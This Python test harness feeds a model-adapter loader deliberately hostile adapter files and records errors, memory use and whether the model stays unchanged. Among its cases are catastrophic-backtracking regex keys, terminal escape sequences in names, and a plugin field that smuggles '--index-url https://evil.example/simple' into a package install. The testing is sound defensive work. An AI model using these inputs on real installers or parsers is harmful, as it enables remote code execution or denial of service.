"""Hostile adapter files, made on the fly, and a runner that tries each one in a process whose memory
is capped (run by ``tests/test_hostile_files.py`` as ``python hostile_cases.py DIR OUT.json``).

Each case is (class, name, how to make the file, how to use it). The runner records, per case, what
was raised, how long the refusal took, how much memory it added (peak RSS, reset before each case),
and whether the model it was tried on is exactly as before (tensors, requires_grad, training flags,
hooks)."""

from __future__ import annotations

import json
import os
import resource
import sys
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from conftest import TinyCNN
from torch import nn

MEMORY_BUDGET = 512 * 1024 * 1024  # bytes of data segment above what setting up took; a 1.4 GB allocation fails
PEFT_PREFIX = "base_model.model."


def fresh() -> TinyCNN:
    torch.manual_seed(0)
    return TinyCNN()


# -- making files -----------------------------------------------------------------------------------

def base_files(d: Path) -> dict[str, Path]:
    """Valid adapters to start from."""
    import peftkit

    torch.manual_seed(1)
    out = {"lora": peftkit.save(peftkit.wrap(fresh(), "lora", r=2, init=False, train=["fc"]), d / "lora.safetensors"),
           "fish": peftkit.save(peftkit.wrap(fresh(), "fish", mask={"conv1.weight": torch.tensor([1, 5, 9, 200])}),
                                d / "fish.safetensors"),
           "serial": peftkit.save(peftkit.wrap(fresh(), "serial_adapter", targets=["conv1"]), d / "serial.safetensors"),
           "head": peftkit.save(peftkit.wrap(fresh(), "lora", r=2, head=3), d / "head.safetensors")}
    m = peftkit.wrap(fresh(), "lora", r=4, targets=["conv1", "fc"], bias="lora_only", train=["bn1"])
    out["peft"] = peftkit.export_peft(m, d / "peft")
    return out


def read(path: Path) -> tuple[dict[str, str], dict[str, torch.Tensor]]:
    from peftkit.container import Snapshot

    with Snapshot(path) as s:
        return dict(s.metadata), s.read()


def write(path: Path, meta: dict[str, str], tensors: dict[str, torch.Tensor]) -> Path:
    from peftkit.container import serialize

    with open(path, "wb") as f:
        serialize(tensors, meta, f)
    return path


def edit(src: Path, dst: Path, *, config: dict[str, Any] | None = None, meta: dict[str, str] | None = None,
         tensors: Callable[[dict[str, torch.Tensor]], None] | None = None,
         targets: Callable[[dict[str, Any]], None] | None = None) -> Path:
    """A copy of ``src`` with config fields, metadata strings, tensors or the targets table changed."""
    m, t = read(src)
    if config is not None:
        m["peftkit.config"] = json.dumps({**json.loads(m["peftkit.config"]), **config})
    if targets is not None:
        table = json.loads(m["peftkit.targets"])
        targets(table)
        m["peftkit.targets"] = json.dumps(table)
    if tensors is not None:
        tensors(t)
    return write(dst, {**m, **(meta or {})}, t)


def raw(dst: Path, header: dict[str, Any] | bytes, data: bytes = b"", length: int | None = None) -> Path:
    """A file written byte by byte: any header, any length field."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    with open(dst, "wb") as f:
        f.write((len(text) if length is None else length).to_bytes(8, "little"))
        f.write(text)
        f.write(data)
    return dst


def peft_dir(src: Path, dst: Path, *, config: dict[str, Any] | None = None, drop: tuple[str, ...] = (),
             tensors: Callable[[dict[str, torch.Tensor]], None] | None = None) -> Path:
    from safetensors.torch import load_file, save_file

    dst.mkdir()
    cfg = {**json.loads((src / "adapter_config.json").read_text()), **(config or {})}
    for k in drop:
        cfg.pop(k, None)
    (dst / "adapter_config.json").write_text(json.dumps(cfg))
    t = load_file(str(src / "adapter_model.safetensors"))
    if tensors is not None:
        tensors(t)
    save_file(t, str(dst / "adapter_model.safetensors"))
    return dst


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


META = {"peftkit.format": "1", "peftkit.method": "lora", "peftkit.plugin": "{}", "peftkit.config": "{}",
        "peftkit.targets": "{}", "peftkit.backbone": json.dumps({"layout": "x", "values": None})}


def _fifo(d: Path, name: str) -> Path:
    p = d / name
    os.mkfifo(p)
    return p


def _peft_fifo(d: Path, base: Path) -> Path:
    out = d / "peft_fifo"
    out.mkdir()
    (out / "adapter_config.json").write_text((base / "adapter_config.json").read_text())
    os.mkfifo(out / "adapter_model.safetensors")
    return out


def _set(key: str, value: Any) -> Callable[[dict[str, torch.Tensor]], None]:
    def change(t: dict[str, torch.Tensor]) -> None:
        t[key] = value
    return change


def _spec(path: str, **spec: Any) -> Callable[[dict[str, Any]], None]:
    def change(table: dict[str, Any]) -> None:
        table[path]["spec"] = {**table[path].get("spec", {}), **spec}
    return change


def _fish_codes_past_the_end(t: dict[str, torch.Tensor]) -> None:
    codes = t["conv1.weight_index"].clone()
    codes[-1] = 30000  # a gap of 62768: far past the 216 entries of conv1.weight
    t["conv1.weight_index"] = codes


def _fish_codes_skip(t: dict[str, torch.Tensor]) -> None:
    codes = t["conv1.weight_index"].clone()
    codes[0] = -32768  # a "skip" code: one position fewer than values
    t["conv1.weight_index"] = codes


def _peft_key(t: dict[str, torch.Tensor], suffix: str) -> str:
    return next(k for k in t if k.endswith(suffix))


def _peft_set(suffix: str, make: Callable[[torch.Tensor], torch.Tensor]) -> Callable[[dict[str, torch.Tensor]], None]:
    def change(t: dict[str, torch.Tensor]) -> None:
        k = _peft_key(t, suffix)
        t[k] = make(t[k])
    return change


def _many_missing(table: dict[str, Any]) -> None:
    row = next(iter(table.values()))
    for i in range(20000):
        table[f"no.such.module_{i}"] = {**row}


@dataclass(frozen=True)
class Case:
    kind: str  # the class of problem
    name: str
    make: Callable[[Path, dict[str, Path]], Path]
    use: str = "load"  # load | import_peft | load_adapter | hotswap | read_header


CASES = [
    # -- sizes the metadata declares, never allocated before the file is known to hold them -----------
    Case("declared sizes", "lora r=4,000,000 in a 3 kB file", lambda d, b: edit(b["lora"], d / "r4m.safetensors", config={"r": 4_000_000})),
    Case("declared sizes", "lora r=10**9", lambda d, b: edit(b["lora"], d / "r1e9.safetensors", config={"r": 10**9})),
    Case("declared sizes", "rank_pattern of 10**9", lambda d, b: edit(b["lora"], d / "rp.safetensors", config={"rank_pattern": {"conv1": 10**9}})),
    Case("declared sizes", "bottleneck=10**9", lambda d, b: edit(b["serial"], d / "bn.safetensors", config={"bottleneck": 10**9})),
    Case("declared sizes", "head of 10**9 outputs", lambda d, b: edit(b["head"], d / "head.safetensors", targets=_spec("fc", outputs=10**9))),
    Case("declared sizes", "an MLP head 10**9 wide", lambda d, b: edit(b["head"], d / "mlp.safetensors", targets=_spec("fc", outputs=[10**9, 3]))),
    Case("declared sizes", "an MLP head of 10,000 layers", lambda d, b: edit(b["head"], d / "deep.safetensors", targets=_spec("fc", outputs=[4] * 10000))),
    Case("declared sizes", "an MLP head of widths [true, 3]", lambda d, b: edit(b["head"], d / "bool.safetensors", targets=_spec("fc", outputs=[True, 3]))),
    Case("declared sizes", "FISH counts and lengths of 10**10", lambda d, b: edit(
        b["fish"], d / "fish10.safetensors", targets=_spec("conv1", counts={"weight": 10**10}, lengths={"weight": 10**10}))),
    Case("declared sizes", "a zero-byte tensor of shape [0, 10**12]", lambda d, b: edit(
        b["lora"], d / "zero.safetensors", tensors=_set("conv1.lora_A", torch.empty(0, 10**12)))),
    Case("declared sizes", "PEFT lora_A of shape (15,000,000, 0)", lambda d, b: peft_dir(
        b["peft"], d / "peft_rank", tensors=_peft_set("conv1.lora_A.weight", lambda t: torch.empty(15_000_000, 0))), "import_peft"),
    Case("declared sizes", "a header longer than the file", lambda d, b: raw(d / "long.safetensors", {"__metadata__": META}, length=10**12)),
    Case("declared sizes", "a 5 MB header", lambda d, b: raw(d / "big.safetensors", {"__metadata__": {**META, "pad": "x" * 5_000_000}})),
    Case("declared sizes", "a tensor claiming 100 GB", lambda d, b: raw(d / "100gb.safetensors", {
        "__metadata__": META, "conv1.lora_A": {"dtype": "F32", "shape": [25_000_000_000], "data_offsets": [0, 100_000_000_000]}})),
    Case("declared sizes", "20,000 missing target paths", lambda d, b: edit(b["lora"], d / "missing.safetensors", targets=_many_missing)),
    Case("declared sizes", "48,000 one-value tensors", lambda d, b: raw(d / "many.safetensors", {
        "__metadata__": META, **{f"t{i}": {"dtype": "F32", "shape": [1], "data_offsets": [4 * i, 4 * i + 4]} for i in range(48000)}},
        b"\0" * 4 * 48000)),
    # -- patterns from a file: matching them must be bounded ----------------------------------------
    Case("patterns", "a backtracking rank_pattern key", lambda d, b: edit(b["lora"], d / "redos.safetensors", config={"rank_pattern": {"([0-9.]|[0-9.])*x": 2}})),
    Case("patterns", "a nested-quantifier alpha_pattern key", lambda d, b: edit(b["lora"], d / "redos2.safetensors", config={"alpha_pattern": {"(a+)+b": 2.0}})),
    Case("patterns", "five unbounded repeats", lambda d, b: edit(b["lora"], d / "redos3.safetensors", config={"rank_pattern": {".*.*.*.*.*x": 2}})),
    Case("patterns", "a backtracking PEFT alpha_pattern key", lambda d, b: peft_dir(b["peft"], d / "peft_redos", config={"alpha_pattern": {"([0-9.]|[0-9.])*x": 2}}), "import_peft"),
    Case("patterns", "a PEFT rank_pattern that is no regex", lambda d, b: peft_dir(b["peft"], d / "peft_badre", config={"rank_pattern": {"conv1[": 2}}), "import_peft"),
    # -- files that are not files -------------------------------------------------------------------
    Case("non-regular files", "a FIFO named like an adapter", lambda d, b: _fifo(d, "fifo.safetensors")),
    Case("non-regular files", "a FIFO, read_header", lambda d, b: _fifo(d, "fifo2.safetensors"), "read_header"),
    Case("non-regular files", "a FIFO, load_adapter", lambda d, b: _fifo(d, "fifo3.safetensors"), "load_adapter"),
    Case("non-regular files", "a PEFT directory whose weights are a FIFO", lambda d, b: _peft_fifo(d, b["peft"]), "import_peft"),
    Case("non-regular files", "a directory named like an adapter file", lambda d, b: (d / "dir.safetensors").mkdir() or d / "dir.safetensors"),
    # -- values that would give wrong results silently ---------------------------------------------
    Case("values", "FISH positions past the end of the tensor", lambda d, b: edit(b["fish"], d / "fishpast.safetensors", tensors=_fish_codes_past_the_end)),
    Case("values", "FISH positions fewer than its values", lambda d, b: edit(b["fish"], d / "fishskip.safetensors", tensors=_fish_codes_skip)),
    Case("values", "NaN in lora_B", lambda d, b: edit(b["lora"], d / "nan.safetensors", tensors=lambda t: t["conv1.lora_B"].fill_(float("nan")))),
    Case("values", "inf in a train module", lambda d, b: edit(b["lora"], d / "inf.safetensors", tensors=lambda t: t["fc.weight"].fill_(float("inf")))),
    Case("values", "alpha=Infinity in the config", lambda d, b: edit(b["lora"], d / "alphainf.safetensors", config={"alpha": float("inf")})),
    Case("values", "FISH delta of NaN, hot swapped", lambda d, b: edit(b["fish"], d / "fishnan.safetensors", tensors=lambda t: t["conv1.weight_delta"].fill_(float("nan"))), "hotswap"),
    Case("values", "PEFT alpha NaN", lambda d, b: peft_dir(b["peft"], d / "peft_nan", config={"lora_alpha": float("nan")}), "import_peft"),
    Case("values", "PEFT NaN tensor", lambda d, b: peft_dir(b["peft"], d / "peft_nant", tensors=_peft_set("fc.lora_B.weight", lambda t: t.fill_(float("nan")))), "import_peft"),
    Case("values", "PEFT [4] vector where lora_B is [4, 4]", lambda d, b: peft_dir(b["peft"], d / "peft_bcast", tensors=_peft_set("fc.lora_B.weight", lambda t: t[0].clone())), "import_peft"),
    Case("values", "PEFT [1] bias", lambda d, b: peft_dir(b["peft"], d / "peft_bias", tensors=_peft_set("fc.base_layer.bias", lambda t: t[:1].clone())), "import_peft"),
    Case("values", "PEFT layers_to_transform: 0", lambda d, b: peft_dir(b["peft"], d / "peft_l0", config={"layers_to_transform": 0}), "import_peft"),
    Case("values", "PEFT modules_to_save of the wrong shape", lambda d, b: peft_dir(b["peft"], d / "peft_mts", tensors=_peft_set("bn1.weight", lambda t: torch.ones(3))), "import_peft"),
    # -- malformed metadata: a PeftkitError, never a raw exception ----------------------------------
    Case("malformed", "peftkit.targets nested 100,000 deep", lambda d, b: edit(b["lora"], d / "deep.safetensors", meta={"peftkit.targets": nested(100_000)})),
    Case("malformed", "peftkit.targets is a list", lambda d, b: edit(b["lora"], d / "tlist.safetensors", meta={"peftkit.targets": "[]"})),
    Case("malformed", "peftkit.config is a string", lambda d, b: edit(b["lora"], d / "cstr.safetensors", meta={"peftkit.config": '"r=2"'})),
    Case("malformed", "a targets row without shapes", lambda d, b: edit(b["lora"], d / "noshape.safetensors", targets=lambda t: t["conv1"].pop("shapes"))),
    Case("malformed", "a targets row with a string role", lambda d, b: edit(b["lora"], d / "role.safetensors", targets=lambda t: t["conv1"].update(role=3))),
    Case("malformed", "rank_pattern is a list", lambda d, b: edit(b["lora"], d / "rplist.safetensors", config={"rank_pattern": ["conv1"]})),
    Case("malformed", "peftkit.plugin holds a number", lambda d, b: edit(b["lora"], d / "plug.safetensors", meta={"peftkit.plugin": '{"distribution": 3}'})),
    Case("malformed", "no peftkit.backbone", lambda d, b: write(d / "nob.safetensors", {k: v for k, v in read(b["lora"])[0].items() if k != "peftkit.backbone"}, read(b["lora"])[1])),
    Case("malformed", "format 2", lambda d, b: edit(b["lora"], d / "fmt2.safetensors", meta={"peftkit.format": "2"})),
    Case("malformed", "an invalid adapter name", lambda d, b: edit(b["lora"], d / "name.safetensors", meta={"peftkit.adapter": "a b\x1b[2J"})),
    Case("malformed", "a 0-d tensor", lambda d, b: edit(b["lora"], d / "zerod.safetensors", tensors=_set("conv1.lora_A", torch.tensor(1.0)))),
    Case("malformed", "an unknown method whose plugin field suggests a malicious install",
         lambda d, b: edit(b["lora"], d / "evil.safetensors", meta={"peftkit.method": "nosuch", "peftkit.plugin": json.dumps(
             {"distribution": "x --index-url https://evil.example/simple", "version": "1", "entry_point": "e\x1b]0;"})})),
    Case("malformed", "PEFT config without r", lambda d, b: peft_dir(b["peft"], d / "peft_nor", drop=("r",)), "import_peft"),
    Case("malformed", "PEFT 0-d lora_A", lambda d, b: peft_dir(b["peft"], d / "peft_0d", tensors=_peft_set("fc.lora_A.weight", lambda t: torch.tensor(1.0))), "import_peft"),
    Case("malformed", "PEFT config nested 100,000 deep", lambda d, b: (lambda p: (p / "adapter_config.json").write_text(nested(100_000)) and p)(
        peft_dir(b["peft"], d / "peft_deep")), "import_peft"),
    # -- the container itself -------------------------------------------------------------------------
    Case("container", "overlapping tensors", lambda d, b: raw(d / "overlap.safetensors", {
        "__metadata__": META, "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, b"\0" * 12)),
    Case("container", "an unknown dtype", lambda d, b: raw(d / "dtype.safetensors", {
        "__metadata__": META, "a": {"dtype": "Q8", "shape": [2], "data_offsets": [0, 2]}}, b"\0\0")),
    Case("container", "a negative dimension", lambda d, b: raw(d / "neg.safetensors", {
        "__metadata__": META, "a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}}, b"\0" * 4)),
    Case("container", "a truncated file", lambda d, b: (lambda p: p.write_bytes(b["lora"].read_bytes()[:-10]) and p)(d / "trunc.safetensors")),
    Case("container", "a header that is not JSON", lambda d, b: raw(d / "notjson.safetensors", b"{not json at all}")),
    Case("container", "a stray bool tensor holding 2", lambda d, b: edit(b["fish"], d / "bool.safetensors", meta={},
                                                                   tensors=lambda t: t.__setitem__("conv1.extra", torch.tensor([2], dtype=torch.uint8).view(torch.bool)))),
]


# -- running them ---------------------------------------------------------------------------------

def _vm(field: str) -> int:
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
    return 0


def _state(model: nn.Module) -> Any:
    return ([(n, t.detach().clone(), type(t), t.requires_grad) for n, t in model.named_parameters()],
            [(n, b.detach().clone()) for n, b in model.named_buffers()],
            [m.training for m in model.modules()],
            [(len(m._forward_hooks), len(m._forward_pre_hooks), "forward" in m.__dict__) for m in model.modules()])


def _same(a: Any, b: Any) -> bool:
    params = len(a[0]) == len(b[0]) and all(n1 == n2 and torch.equal(t1, t2) and k1 is k2 and g1 == g2
                                            for (n1, t1, k1, g1), (n2, t2, k2, g2) in zip(a[0], b[0], strict=True))
    buffers = len(a[1]) == len(b[1]) and all(n1 == n2 and torch.equal(t1, t2) for (n1, t1), (n2, t2) in zip(a[1], b[1], strict=True))
    return params and buffers and a[2] == b[2] and a[3] == b[3]


def _use(case: Case, path: Path, files: dict[str, Path]) -> nn.Module:
    """Try the file as the case says; returns the model it was tried on (to compare afterwards)."""
    import peftkit

    model = fresh()
    if case.use == "load":
        peftkit.load(model, path)
    elif case.use == "import_peft":
        peftkit.import_peft(model, path)
    elif case.use == "read_header":
        peftkit.read_header(path)
    else:  # load_adapter, hotswap: into an AdaptedModel holding the valid adapter
        m = peftkit.load(model, files["fish" if "fish" in path.name else "lora"])
        m.__dict__["_probe"] = _state(m)
        m.load_adapter(path, name="x") if case.use == "load_adapter" else m.hotswap(path)
        return m
    return model


def main(d: Path, out: Path) -> None:
    import peftkit  # noqa: F401 (imported before the budget is set)
    from peftkit.cli import main as cli

    torch.set_num_threads(1)
    files = base_files(d)
    made = {}
    for case in CASES:
        made[case.name] = case.make(d, files)
    peftkit.load(fresh(), files["lora"])  # one valid load first: one-time set-up is not charged to a case
    peftkit.import_peft(fresh(), files["peft"])
    soft, hard = resource.getrlimit(resource.RLIMIT_DATA)
    resource.setrlimit(resource.RLIMIT_DATA, (_vm("VmData") + MEMORY_BUDGET, hard))
    results = {}
    for case in CASES:
        path = made[case.name]
        model = fresh()
        before = _state(model)
        with open("/proc/self/clear_refs", "w") as f:  # reset the peak RSS (VmHWM) to the current RSS
            f.write("5")
        rss = _vm("VmRSS")
        start = time.perf_counter()
        error = None
        tried = model
        try:
            tried = _use(case, path, files)
        except BaseException as exc:  # noqa: BLE001 (every outcome is recorded, judged by the test)
            error = exc
        took = time.perf_counter() - start
        extra = _vm("VmHWM") - rss
        if hasattr(tried, "_probe"):
            unchanged = _same(tried.__dict__["_probe"], _state(tried)) and tried.adapter_names == ["default"]
        else:
            unchanged = _same(before, _state(tried))
        inspected = None
        if case.use != "import_peft":
            try:
                with open(os.devnull, "w") as sink:
                    stdout, sys.stdout = sys.stdout, sink
                    try:
                        inspected = cli(["inspect", str(path)])
                    finally:
                        sys.stdout = stdout
            except BaseException as exc:  # noqa: BLE001
                inspected = f"{type(exc).__name__}: {exc}"
        results[case.name] = {
            "kind": case.kind, "error": type(error).__name__ if error else None,
            "peftkit_error": isinstance(error, peftkit.errors.PeftkitError), "message": str(error)[:600] if error else "",
            "traceback": "".join(traceback.format_exception(error))[-1500:] if error and not isinstance(
                error, peftkit.errors.PeftkitError) else "",
            "seconds": took, "extra_mb": extra / 2**20, "unchanged": unchanged, "inspect": inspected,
        }
    resource.setrlimit(resource.RLIMIT_DATA, (soft, hard))
    out.write_text(json.dumps(results, indent=1))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
